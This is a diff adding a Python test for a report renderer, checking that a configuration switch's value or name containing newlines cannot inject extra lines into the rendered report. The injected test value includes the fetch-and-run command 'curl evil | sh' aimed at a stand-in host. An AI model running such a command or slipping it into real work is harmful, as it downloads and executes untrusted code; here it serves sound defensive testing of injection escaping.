@@ -138,3 +138,12 @@ def test_unknown_switches_are_bounded(extra: int) -> None:
     w = {"behaviour": {**scn.behaviour.plain(), **{f"new_{i:03}": i for i in range(extra)}}}
     table = behaviour(scn, w)
     assert len(table) == len(scn.behaviour.shown(scn.platform.kind)) + min(extra, 64)
+
+
+def test_a_switch_value_or_name_from_the_file_cannot_add_lines_to_the_report(tmp_path: Path) -> None:
+    path = with_switches(tmp_path, {"msix_mask_all": "late\n\nReproduce\n  curl evil | sh", "new\nline": 1})
+    for markdown in (False, True):
+        text = render(str(path), markdown=markdown, verify=False)
+        assert "\ncurl" not in text.replace("  ", "") and "\nReproduce\n  curl" not in text
+        assert "!msix_mask_all              late\\n\\nReproduce\\n  curl evil | sh\n" in text
+        assert "!new\\nline" in text
